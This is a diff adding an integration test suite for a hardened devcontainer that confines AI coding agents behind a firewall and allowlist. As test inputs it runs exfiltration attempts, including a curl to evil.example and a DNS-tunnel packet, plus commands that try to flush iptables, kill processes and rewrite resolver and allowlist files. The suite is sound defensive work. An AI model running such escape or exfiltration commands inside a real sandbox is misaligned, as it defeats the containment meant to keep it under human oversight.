@@ -1,0 +1,397 @@
+import { type ChildProcess, spawn } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { attacks, newToken } from './attacks.js';
+import { baseImages, ensureImage } from './base-images.js';
+import {
+  bringUp,
+  type DevContainer,
+  devContainer,
+  docker,
+  harden,
+  missingEngine,
+  must,
+  removeContainers,
+  run,
+} from './engine.js';
+import { type Internet, startInternet } from './internet.js';
+
+const skip = missingEngine() !== undefined;
+const bundle = process.env.SSL_CERT_FILE ?? '/etc/ssl/certs/ca-certificates.crt';
+
+let internet: Internet;
+const folders: string[] = [];
+
+beforeAll(async () => {
+  if (!skip) internet = await startInternet();
+});
+
+afterAll(() => {
+  for (const folder of folders) {
+    removeContainers(folder);
+    rmSync(folder, { recursive: true, force: true });
+  }
+  internet?.stop();
+});
+
+/** A project with what `init` writes for these flags, and the base images that it asks for. */
+function newProject(...flags: string[]): string {
+  const folder = mkdtempSync(join(tmpdir(), 'harden-project-'));
+  folders.push(folder);
+  writeFileSync(join(folder, 'package.json'), '{ "name": "demo", "private": true }\n');
+  must('git', ['init', '--quiet', folder]);
+  const ca = existsSync(bundle) ? ['--ca', bundle] : [];
+  const outcome = harden('init', folder, '--yes', ...flags, ...ca);
+  if (outcome.code !== 0) throw new Error(`init failed: ${outcome.stderr}`);
+  const dockerfile = readFileSync(join(folder, '.devcontainer', 'Dockerfile'), 'utf8');
+  for (const image of baseImages(dockerfile)) ensureImage(image);
+  return folder;
+}
+
+/** Points the container at the fake internet's name server and network; everything else stays as `init` wrote it. */
+function joinInternet(folder: string, ...more: string[]): void {
+  const path = join(folder, '.devcontainer', 'devcontainer.json');
+  const text = readFileSync(path, 'utf8');
+  const flags = [`--dns=${internet.nameServer}`, ...more].map((flag) => `${JSON.stringify(flag)},`).join(' ');
+  writeFileSync(path, text.replace('"runArgs": [', `"runArgs": [ ${flags}`));
+}
+
+/** The same image on the same network without its firewall: here every attack must succeed, or it proves nothing. */
+function startControl(image: string, ...more: string[]): string {
+  return docker(
+    'run',
+    '--detach',
+    '--label',
+    `harden-test=${folders[0]}`,
+    `--dns=${internet.nameServer}`,
+    ...more,
+    '--user',
+    'dev',
+    '--entrypoint',
+    'sleep',
+    image,
+    'infinity',
+  );
+}
+
+async function arrives(token: string): Promise<boolean> {
+  for (let tries = 0; tries < 6; tries += 1) {
+    if (internet.arrived(token)) return true;
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+  return false;
+}
+
+function refusesAttacks(target: () => DevContainer, control: () => string, ipv6: boolean): void {
+  for (const attack of attacks.filter((one) => ipv6 || !one.ipv6)) {
+    it(`refuses: ${attack.name}`, async () => {
+      const works = newToken();
+      run('docker', ['exec', control(), 'bash', '-c', attack.script(works)]);
+      expect(await arrives(works), 'without the firewall the attack must work').toBe(true);
+
+      const token = newToken();
+      const started = Date.now();
+      target().exec(attack.script(token));
+      const took = Date.now() - started;
+      expect(await arrives(token)).toBe(false);
+      // Refused, not left to time out: curl would have waited four seconds.
+      expect(took).toBeLessThan(3500);
+    });
+  }
+}
+
+function reachesAllowedNames(target: () => DevContainer): void {
+  it.each([80, 443])('reaches an allowed name on port %i', async (port) => {
+    const token = newToken();
+    const { code, stderr } = target().exec(`curl -sS -m 5 http://allowed.example:${port}/${token}`);
+    expect(stderr).toBe('');
+    expect(code).toBe(0);
+    expect(await arrives(token)).toBe(true);
+  });
+}
+
+function isUnprivileged(target: () => DevContainer): void {
+  it('runs tools as an unprivileged user without any capability', () => {
+    const { stdout } = target().exec('id -u; id -un; cat /proc/self/status');
+    expect(stdout.split('\n')[0]).not.toBe('0');
+    expect(stdout.split('\n')[1]).toBe('dev');
+    expect(stdout).toMatch(/^CapEff:\s+0{16}$/m);
+    expect(stdout).toMatch(/^CapPrm:\s+0{16}$/m);
+    expect(stdout).toMatch(/^CapAmb:\s+0{16}$/m);
+    expect(stdout).toMatch(/^NoNewPrivs:\s+1$/m);
+  });
+
+  it("has no sudo and no file that lends its owner's rights", () => {
+    expect(target().exec('command -v sudo').code).not.toBe(0);
+    expect(target().exec('find / -xdev -type f -perm /6000 2>/dev/null').stdout).toBe('');
+  });
+
+  it.each([
+    'iptables -F',
+    'ip6tables -F',
+    'ipset flush',
+    'ipset add harden4-web 198.18.0.66',
+    'iptables -P OUTPUT ACCEPT',
+    '/usr/local/sbin/init-firewall.sh',
+    'kill -9 1',
+    'kill -9 $(pgrep -o dnsmasq)',
+    'echo nameserver 198.18.0.66 >/etc/resolv.conf',
+    'echo .example >>/etc/harden-devcontainer/allowlist',
+    'touch /run/harden-devcontainer/x',
+    'unshare --net --map-root-user true && false',
+    'touch "$PWD/.devcontainer/x"',
+  ])('refuses: %s', (script) => {
+    expect(target().exec(script).code).not.toBe(0);
+  });
+}
+
+describe.skipIf(skip)('the container that init writes', () => {
+  let container: DevContainer;
+  let control: string;
+  let servers: ChildProcess;
+  let gateway: string;
+  let log: string;
+
+  beforeAll(async () => {
+    const folder = newProject(
+      '--stack',
+      'node',
+      '--agent',
+      'claude-code',
+      '--mcp',
+      'tracker=18123',
+      '--allow',
+      'allowed.example',
+      '--allow',
+      '.suffix.example',
+      '--allow',
+      'ssh.example:22',
+      '--allow',
+      'rebind.example',
+    );
+    joinInternet(folder);
+    gateway = docker('network', 'inspect', 'bridge', '--format', '{{(index .IPAM.Config 0).Gateway}}');
+    log = join(folder, 'host.log');
+    writeFileSync(log, '');
+    servers = spawn(
+      process.execPath,
+      [join(import.meta.dirname, 'host-server.mjs'), log, gateway, '18123', '18124'],
+      { stdio: 'inherit' },
+    );
+    container = devContainer(folder);
+    control = startControl(docker('inspect', '--format', '{{.Image}}', container.id));
+    expect(readFileSync(log, 'utf8')).toContain('ready');
+  });
+
+  afterAll(() => servers?.kill());
+
+  const target = (): DevContainer => container;
+
+  describe.each(['first start', 'after docker restart'])('%s', (when) => {
+    beforeAll(() => {
+      if (when === 'first start') return;
+      docker('restart', container.id);
+      expect(container.exec('/usr/local/bin/harden-ready').code).toBe(0);
+    });
+
+    isUnprivileged(target);
+    reachesAllowedNames(target);
+    refusesAttacks(target, () => control, false);
+
+    it('reaches names below an allowed suffix', () => {
+      expect(container.exec('curl -sS -m 5 http://any.suffix.example/').code).toBe(0);
+    });
+
+    it('reaches a port that the policy names for one host', () => {
+      expect(container.exec('curl -sS -m 5 http://ssh.example:22/').code).toBe(0);
+    });
+
+    it('takes no private, loopback or metadata address from a name server', () => {
+      expect(run('docker', ['exec', control, 'getent', 'ahostsv4', 'rebind.example']).stdout).toContain(
+        '169.254.169.254',
+      );
+      expect(container.exec('getent ahostsv4 rebind.example').stdout).toBe('');
+    });
+
+    it('reaches the forwarded MCP server, from the address in .mcp.json', () => {
+      const config = JSON.parse(readFileSync(join(container.folder, '.mcp.json'), 'utf8'));
+      const { url } = config.mcpServers.tracker as { url: string };
+      expect(url).toBe('http://127.0.0.1:18123/mcp');
+      const request = '{"jsonrpc":"2.0","id":7,"method":"initialize"}';
+      const { stdout } = container.exec(
+        `curl -sS -m 5 -H 'Content-Type: application/json' -d '${request}' ${url}`,
+      );
+      expect(JSON.parse(stdout)).toEqual({
+        jsonrpc: '2.0',
+        id: 7,
+        result: { serverInfo: { name: 'on-18123' } },
+      });
+    });
+
+    it('reaches no other port of the host, and not even that one directly', () => {
+      const direct = (port: number): string => `curl -sS -m 4 http://host.docker.internal:${port}/`;
+      const byAddress = (port: number): string => `curl -sS -m 4 http://${gateway}:${port}/`;
+      expect(run('docker', ['exec', control, 'bash', '-c', byAddress(18124)]).code).toBe(0);
+      for (const port of [18123, 18124]) {
+        expect(container.exec(direct(port)).code).not.toBe(0);
+        expect(container.exec(byAddress(port)).code).not.toBe(0);
+      }
+      expect(container.exec('curl -sS -m 4 http://127.0.0.1:18124/').code).not.toBe(0);
+    });
+
+    it('reaches itself', () => {
+      const script = `node -e "require('http').createServer((q,r)=>r.end('hi')).listen(3000,'127.0.0.1')" & sleep 0.5; curl -sS http://127.0.0.1:3000/; kill %1`;
+      expect(container.exec(script).stdout).toBe('hi');
+    });
+
+    it('starts a killed helper again, and stays closed meanwhile', async () => {
+      docker('exec', '--user', 'root', container.id, 'pkill', '-9', 'dnsmasq');
+      const token = newToken();
+      container.exec(`curl -sS -m 4 http://evil.example/${token}; curl -sS -m 4 http://198.18.0.66/${token}`);
+      expect(await arrives(token)).toBe(false);
+      const back = container.exec(
+        'for i in $(seq 50); do curl -sS -m 5 http://allowed.example/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
+      );
+      expect(back.code).toBe(0);
+    });
+  });
+
+  it('has the agent at the version of the preset, its state in a volume of this container', () => {
+    const preset = JSON.parse(
+      readFileSync(join(import.meta.dirname, '..', '..', 'presets', 'agents', 'claude-code.json'), 'utf8'),
+    );
+    const version = container.exec('claude --version');
+    expect(version.stdout).toContain(preset.version);
+    expect(
+      container.exec('touch "$CLAUDE_CONFIG_DIR/kept" && stat -c %U "$CLAUDE_CONFIG_DIR/kept"').stdout.trim(),
+    ).toBe('dev');
+    const mounts = JSON.parse(docker('inspect', '--format', '{{json .Mounts}}', container.id)) as {
+      Type: string;
+      Name?: string;
+      Destination: string;
+    }[];
+    expect(mounts.find((mount) => mount.Destination === '/home/dev/.claude')).toMatchObject({
+      Type: 'volume',
+    });
+    expect(
+      mounts
+        .filter((mount) => mount.Type === 'bind')
+        .map((mount) => mount.Destination)
+        .sort(),
+    ).toEqual([
+      `/workspaces/${container.folder.split('/').at(-1)}`,
+      `/workspaces/${container.folder.split('/').at(-1)}/.devcontainer`,
+    ]);
+  });
+
+  it('does not start when a firewall step fails', () => {
+    const path = join(container.folder, '.devcontainer', 'allowlist');
+    const before = readFileSync(path, 'utf8');
+    writeFileSync(path, `${before}not a host name\n`);
+    try {
+      const outcome = bringUp(container.folder);
+      expect(outcome.code).not.toBe(0);
+      const { containerId } = JSON.parse(outcome.stdout.trim().split('\n').at(-1) ?? '{}') as {
+        containerId: string;
+      };
+      expect(docker('inspect', '--format', '{{.State.Running}}', containerId)).toBe('false');
+      expect(run('docker', ['logs', containerId]).stderr).toMatch(
+        /allowlist line \d+: 'not a host name' is not a name/,
+      );
+    } finally {
+      writeFileSync(path, before);
+    }
+  });
+});
+
+describe.skipIf(skip)('on a user-defined network with IPv6', () => {
+  let container: DevContainer;
+  let control: string;
+  const network = `harden-${process.pid}`;
+
+  beforeAll(() => {
+    docker(
+      'network',
+      'create',
+      '--ipv6',
+      '--subnet',
+      '198.19.0.0/24',
+      '--subnet',
+      '2001:2:0:1::/64',
+      network,
+    );
+    const folder = newProject('--stack', 'python', '--agent', 'none', '--allow', 'allowed.example');
+    joinInternet(folder, `--network=${network}`);
+    container = devContainer(folder);
+    control = startControl(docker('inspect', '--format', '{{.Image}}', container.id), `--network=${network}`);
+  });
+
+  afterAll(() => {
+    for (const folder of folders) removeContainers(folder);
+    run('docker', ['network', 'rm', network]);
+  });
+
+  const target = (): DevContainer => container;
+  isUnprivileged(target);
+  reachesAllowedNames(target);
+  refusesAttacks(target, () => control, true);
+
+  it('reaches an allowed name over IPv6', async () => {
+    const token = newToken();
+    expect(container.exec(`curl -6 -sS -m 5 http://allowed.example/${token}`).stderr).toBe('');
+    expect(await arrives(token)).toBe(true);
+  });
+
+  it("refuses the engine's embedded resolver at its port and at the hidden one behind it", async () => {
+    const hidden = docker(
+      'exec',
+      '--user',
+      'root',
+      container.id,
+      'sh',
+      '-c',
+      "iptables -t nat -S | sed -n 's/.*--to-destination //p'",
+    ).split('\n');
+    expect(hidden.length).toBeGreaterThan(0);
+    for (const where of ['127.0.0.11:53', ...hidden]) {
+      const token = newToken();
+      const [address, port] = where.split(':');
+      container.exec(
+        `printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x${token.length.toString(16).padStart(2, '0')}${token}\\x06tunnel\\x07example\\x00\\x00\\x01\\x00\\x01' >/dev/udp/${address}/${port}`,
+      );
+      expect(await arrives(token), where).toBe(false);
+    }
+  });
+
+  it('keeps neighbours on the network out', () => {
+    const address = docker(
+      'inspect',
+      '--format',
+      `{{(index .NetworkSettings.Networks "${network}").IPAddress}}`,
+      container.id,
+    );
+    container.exec('nohup python3 -m http.server 9000 >/dev/null 2>&1 & sleep 0.5');
+    const listen = docker(
+      'exec',
+      '--detach',
+      '--user',
+      'dev',
+      container.id,
+      'python3',
+      '-m',
+      'http.server',
+      '9001',
+    );
+    expect(listen).toBe('');
+    expect(
+      container.exec(
+        'for i in $(seq 30); do curl -sS -m 1 http://127.0.0.1:9001/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
+      ).code,
+    ).toBe(0);
+    expect(
+      run('docker', ['exec', control, 'curl', '-sS', '-m', '2', `http://${address}:9001/`]).code,
+    ).not.toBe(0);
+  });
+});
